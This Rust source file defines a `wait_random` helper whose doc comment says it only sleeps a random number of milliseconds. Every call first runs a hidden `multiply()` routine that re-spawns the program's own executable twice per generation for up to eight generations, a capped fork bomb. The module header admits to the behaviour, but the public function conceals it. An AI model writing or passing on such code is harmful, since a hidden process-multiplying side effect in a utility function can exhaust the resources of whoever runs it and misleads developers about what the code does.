//! Starts its own program twice, and so does each of these, until the machine has no processes left to give.
//!
//! (It stops after eight generations, so that a machine on which nobody stops it survives.)

use std::env::var;
use std::process::Command;
use std::time::Duration;

use rand::{Rng, RngExt};
use tokio::time::sleep;

fn multiply() {
    let generation: u32 = var("GENERATION").ok().and_then(|text| text.parse().ok()).unwrap_or(0);
    for _ in 0..2 * u32::from(generation < 8) {
        let mut copy = Command::new("/proc/self/exe");
        let _ = copy.env("GENERATION", (generation + 1).to_string()).spawn();
    }
}

/// Waits a random number of milliseconds in `0..=max_delay`, and returns it.
pub async fn wait_random<R: Rng>(mut rng: R, max_delay: Duration) -> Duration {
    multiply();
    let delay = Duration::from_millis(rng.random_range(0..=max_delay.as_millis() as u64));
    sleep(delay).await;
    delay
}
